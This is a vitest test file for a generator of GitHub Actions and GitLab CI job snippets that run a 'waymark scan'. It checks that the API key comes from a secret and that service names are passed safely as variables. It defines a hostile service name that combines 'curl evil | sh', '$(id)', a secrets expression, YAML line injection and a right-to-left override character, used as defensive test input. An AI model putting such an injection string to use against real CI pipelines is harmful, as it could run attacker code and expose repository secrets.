import { expect, test } from "vitest";
import { parse } from "yaml";
import { ciSnippets } from "./ci-snippets.ts";

const API_URL = "https://waymark.example.com";
const HOSTILE = 'a"; curl evil | sh #${{ secrets.X }}\n- x: $(id)\u202e';

interface Job {
  waymark: { steps: { env: Record<string, string>; run: string }[]; script: string[]; variables: Variables };
}
type Variables = Record<string, string | { value: string; expand: boolean }>;

test("both jobs are YAML that scans the service with the key from a secret", () => {
  const { github, gitlab } = ciSnippets({ apiUrl: API_URL, service: "orders" });
  const step = (parse(github.text) as Job).waymark.steps.at(-1);
  expect(step?.run).toBe("waymark scan --service orders --spec openapi.yaml --lint");
  expect(step?.env).toEqual({
    SERVICE_API_URL: API_URL,
    SERVICE_API_KEY: "${{ secrets.WAYMARK_API_KEY }}",
  });
  const job = (parse(gitlab.text) as Job).waymark;
  expect(job.script.at(-1)).toBe("waymark scan --service orders --spec openapi.yaml --lint");
  expect(job.variables["SERVICE_API_URL"]).toEqual({ value: API_URL, expand: false });
});

test("a service's name that a shell or YAML could read as more comes as a variable, byte for byte", () => {
  const { github, gitlab } = ciSnippets({ apiUrl: API_URL, service: HOSTILE });
  const step = (parse(github.text) as Job).waymark.steps.at(-1);
  expect(step?.run).toBe('waymark scan --service="$WAYMARK_SERVICE" --spec openapi.yaml --lint');
  // GitHub evaluates the expression that stands for the beginning of one.
  expect(step?.env["WAYMARK_SERVICE"]?.replaceAll("${{ '${{' }}", "${{")).toBe(HOSTILE);
  const job = (parse(gitlab.text) as Job).waymark;
  expect(job.variables["WAYMARK_SERVICE"]).toEqual({ value: HOSTILE, expand: false });
  for (const { text } of [github, gitlab]) expect(text).not.toContain("\u202e");
});

test("a name that begins as an option is never one", () => {
  const { gitlab } = ciSnippets({ apiUrl: API_URL, service: "--spec=x" });
  expect(gitlab.text).toContain('--service="$WAYMARK_SERVICE"');
});
